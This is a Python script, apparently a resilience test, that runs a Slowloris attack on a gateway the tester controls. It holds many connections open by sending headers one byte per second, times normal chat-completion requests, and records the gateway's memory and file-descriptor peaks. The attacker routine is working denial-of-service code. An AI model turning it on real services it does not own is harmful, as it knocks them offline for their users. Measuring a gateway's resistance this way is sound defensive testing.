"""Slowloris against a running gateway: N connections that send a request's headers one byte
at a time, while a client sends normal requests and times them. Prints one JSON line.

usage: slowloris.py GATEWAY_URL GATEWAY_PID CONNECTIONS SECONDS
"""
import asyncio
import json
import os
import statistics
import sys
import time
import http.client
import threading
import resource

HEADER = b"POST /v1/chat/completions HTTP/1.1\r\nHost: gw\r\nX-Slow: " + b"a" * 4096
BODY = json.dumps({"model": "gpt", "messages": [{"role": "user", "content": "Say hello"}]})


def rss_and_fds(pid):
    with open(f"/proc/{pid}/status") as status:
        rss = next(int(line.split()[1]) for line in status if line.startswith("VmRSS:"))
    return rss // 1024, len(os.listdir(f"/proc/{pid}/fd"))


def timed_requests(host, port, count, out):
    """Sequential normal requests on fresh connections; latency in ms, or None on failure."""
    for _ in range(count):
        started = time.perf_counter()
        try:
            conn = http.client.HTTPConnection(host, port, timeout=10)
            conn.request("POST", "/v1/chat/completions", BODY, {"content-type": "application/json"})
            response = conn.getresponse()
            response.read()
            ok = response.status == 200
            conn.close()
        except OSError:
            ok = False
        out.append((time.perf_counter() - started) * 1000 if ok else None)


def summary(latencies):
    good = sorted(x for x in latencies if x is not None)
    if not good:
        return {"ok": 0, "failed": len(latencies)}
    return {
        "ok": len(good),
        "failed": len(latencies) - len(good),
        "p50_ms": round(statistics.median(good), 2),
        "p99_ms": round(good[min(len(good) - 1, int(len(good) * 0.99))], 2),
    }


async def attacker(host, port, stop, stats):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect_failed"] += 1
            await asyncio.sleep(0.05)
            continue
        stats["opened"] += 1
        try:
            for i in range(len(HEADER)):
                if stop.is_set():
                    break
                writer.write(HEADER[i : i + 1])
                await writer.drain()
                await asyncio.sleep(1)
                if reader.at_eof():
                    break
        except OSError:
            pass
        stats["closed_by_gateway"] += 1
        writer.close()


async def main():
    url, pid, connections, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    host, port = url.removeprefix("http://").split(":")
    port = int(port)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    before = []
    await asyncio.to_thread(timed_requests, host, port, 300, before)
    idle_rss, idle_fds = rss_and_fds(pid)

    stop = asyncio.Event()
    stats = {"opened": 0, "connect_failed": 0, "closed_by_gateway": 0}
    tasks = []
    for _ in range(connections):
        tasks.append(asyncio.create_task(attacker(host, port, stop, stats)))
        if len(tasks) % 500 == 0:
            await asyncio.sleep(0)
    await asyncio.sleep(min(5.0, seconds / 3))

    during = []
    peak = [0, 0]
    done = threading.Event()

    def sample():
        while not done.is_set():
            rss, fds = rss_and_fds(pid)
            peak[0], peak[1] = max(peak[0], rss), max(peak[1], fds)
            time.sleep(0.2)

    sampler = threading.Thread(target=sample)
    sampler.start()
    started = time.monotonic()
    while time.monotonic() - started < seconds:
        await asyncio.to_thread(timed_requests, host, port, 50, during)
    done.set()
    sampler.join()
    stop.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps({
        "attack_connections": connections,
        "attack_opened": stats["opened"],
        "attack_connect_failed": stats["connect_failed"],
        "before": summary(before),
        "during": summary(during),
        "gateway_rss_mb": {"idle": idle_rss, "peak": peak[0]},
        "gateway_fds": {"idle": idle_fds, "peak": peak[1]},
    }))


asyncio.run(main())
